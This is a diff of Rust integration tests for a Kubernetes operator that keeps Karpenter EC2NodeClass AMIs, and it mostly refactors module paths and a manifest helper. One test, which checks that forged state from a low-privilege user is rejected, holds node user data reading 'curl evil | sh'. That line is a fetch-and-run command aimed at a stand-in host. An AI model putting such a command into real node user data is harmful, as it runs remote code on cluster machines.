@@ -6,14 +6,15 @@
 use crate::feedback::report;
 use anyhow::{ensure, Context, Result};
 use autonode_shared::protocol::{Outcome, REPORT_PATH};
-use autonode_tests::fakecloud::Instance;
-use autonode_tests::joiner::{self, Joiner, NodeKeys};
-use autonode_tests::karpenter::{self, ec2nodeclasses, nodeclaims};
-use autonode_tests::pki::Ca;
-use autonode_tests::poll;
-use autonode_tests::promql;
+use autonode_tests::callers::joiner::{self, Joiner, NodeKeys};
+use autonode_tests::cloud::fakecloud::Instance;
+use autonode_tests::harness::pki::Ca;
+use autonode_tests::harness::poll;
+use autonode_tests::karpenter::standin::{self, ec2nodeclasses, nodeclaims};
+use autonode_tests::kube::manifest;
+use autonode_tests::oracles::promql;
+use autonode_tests::server::world::{cloud_settings, World};
 use autonode_tests::server::{self, GuestRbac, Setup, TestServer, GUEST_RBAC_FILES};
-use autonode_tests::world::{cloud_settings, World};
 use k8s_openapi::api::core::v1::{ConfigMap, Event};
 use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
 use kube::api::{Api, DynamicObject, ListParams, Patch, PatchParams};
@@ -199,7 +200,7 @@ async fn launch(world: &World, ami: &str) -> Result<(String, Instance)> {
         .await?;
     let status = json!({"status": {"imageID": ami}});
     let params = PatchParams {
-        field_manager: Some(karpenter::FIELD_MANAGER.into()),
+        field_manager: Some(standin::FIELD_MANAGER.into()),
         ..PatchParams::default()
     };
     nodeclaims(&world.cp.admin().await?)
@@ -218,7 +219,7 @@ async fn mark_ready(world: &World, claim: &str) -> Result<()> {
     });
     let status = json!({"status": {"conditions": conditions}});
     let params = PatchParams {
-        field_manager: Some(karpenter::FIELD_MANAGER.into()),
+        field_manager: Some(standin::FIELD_MANAGER.into()),
         ..PatchParams::default()
     };
     nodeclaims(&world.cp.admin().await?)
@@ -232,7 +233,7 @@ async fn mark_ready(world: &World, claim: &str) -> Result<()> {
 async fn proven_world(flags: &Flags) -> Result<(World, DynamicObject)> {
     let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
     let admin = world.cp.admin().await?;
-    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
     class_when(&world, "kept by autonode", |c| {
         ami(c) == OLD_AMI && state(c)["trial"].is_object()
     })
@@ -442,7 +443,7 @@ async fn a_held_class_keeps_its_ami_until_released() -> Result<()> {
     let flags = Flags::new()?;
     let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
     let admin = world.cp.admin().await?;
-    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
     let kept = class_when(&world, "kept by autonode", |c| {
         ami(c) == OLD_AMI && state(c).is_object()
     })
@@ -481,10 +482,10 @@ async fn a_state_autonode_did_not_write_holds_nothing() -> Result<()> {
                         "amiSelectorTerms": [{"id": "ami-0eeeeeeeeeeeeeee6"}]});
     let forged = json!({"applied": theirs, "good": theirs}).to_string();
     let annotations = json!({STATE: forged, "autonode.dev/hold": "true"});
-    let mut spec = karpenter::custom_spec(json!({}));
+    let mut spec = standin::custom_spec(json!({}));
     spec["userData"] = theirs["userData"].clone();
     spec["amiSelectorTerms"] = theirs["amiSelectorTerms"].clone();
-    karpenter::create_nodeclass(&admin, CLASS, annotations, spec).await?;
+    standin::create_nodeclass(&admin, CLASS, annotations, spec).await?;
 
     let kept = class_when(&world, "kept by autonode", |c| ami(c) == OLD_AMI).await?;
     ensure!(kept.data["spec"]["userData"] != theirs["userData"]);
@@ -545,7 +546,7 @@ async fn a_state_forged_under_autonodes_field_manager_is_rejected() -> Result<()
     let admin = world.cp.admin().await?;
     // A guest user's right to read and patch EC2NodeClasses, nothing more.
     let verbs = ["get", "list", "watch", "patch"];
-    autonode_tests::karpenter::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
+    autonode_tests::karpenter::standin::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
     let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
 
     let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
@@ -602,7 +603,7 @@ async fn a_change_of_one_architectures_ami_is_judged_by_that_architecture() -> R
     let flags = Flags::new()?;
     let world = World::start_with(&flags.with_amis(OLD_AMI, OLD_ARM)).await?;
     let admin = world.cp.admin().await?;
-    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
     class_when(&world, "kept by autonode", |c| {
         state(c)["trial"].is_object()
     })
@@ -691,7 +692,7 @@ async fn a_nodeclaim_deleted_before_launch_is_no_failure() -> Result<()> {
     let admin = world.cp.admin().await?;
     let claims = nodeclaims(&admin);
     for name in ["unlaunched-1", "unlaunched-2"] {
-        karpenter::create_nodeclaim(&admin, name, CLASS).await?;
+        standin::create_nodeclaim(&admin, name, CLASS).await?;
         resyncs(&second, 1.0).await?;
         claims.delete(name, &Default::default()).await?;
     }
@@ -834,7 +835,7 @@ async fn applying_as_autonode_server_does_not_move_a_trials_start() -> Result<()
     // one annotation more, under autonode's manager name, a while later.
     tokio::time::sleep(Duration::from_millis(2100)).await;
     let verbs = ["get", "list", "watch", "patch"];
-    karpenter::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
+    standin::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
     let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
     let mut annotations = begun.metadata.annotations.clone().unwrap_or_default();
     annotations.insert("mallory".into(), "was-here".into());
@@ -871,19 +872,20 @@ async fn applying_as_autonode_server_does_not_move_a_trials_start() -> Result<()
 
 /// The guest RBAC files as a release before the store shipped them: the
 /// store's Role and its binding left out.
-fn rbac_before_the_store(flags: &[String]) -> String {
+fn rbac_before_the_store(flags: &[String]) -> Result<String> {
     let wanted = GuestRbac::for_flags(flags).without_admission().files();
-    let mut documents = Vec::new();
+    let mut kept = Vec::new();
     for (name, text) in GUEST_RBAC_FILES {
         if !wanted.contains(&name) {
             continue;
         }
-        let kept = text
-            .split("\n---\n")
-            .filter(|d| !d.contains("name: autonode-server-rollout-store"));
-        documents.extend(kept);
+        let docs = manifest::documents(text)?;
+        kept.extend(
+            docs.into_iter()
+                .filter(|d| d["metadata"]["name"] != "autonode-server-rollout-store"),
+        );
     }
-    documents.join("\n---\n")
+    Ok(manifest::join(&kept))
 }
 
 /// Skew: a server whose guest RBAC predates the store (403 on the
@@ -904,7 +906,7 @@ async fn under_rbac_before_the_store_the_state_stays_on_the_class_and_it_says_so
     Api::<Role>::namespaced(admin.clone(), "autonode-system")
         .delete(name, &Default::default())
         .await?;
-    let manifest = rbac_before_the_store(&args);
+    let manifest = rbac_before_the_store(&args)?;
     let setup = Setup {
         extra_args: &args,
         rbac_manifest: Some(&manifest),
@@ -913,7 +915,7 @@ async fn under_rbac_before_the_store_the_state_stays_on_the_class_and_it_says_so
     let cloud = cloud_settings(&world.cloud, &world.ec2);
     let old_rbac = TestServer::launch(&world.cp, &cloud, &setup).await?;
 
-    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
     class_when(&world, "kept by autonode, its state on it", |c| {
         ami(c) == OLD_AMI && state(c)["trial"].is_object()
     })
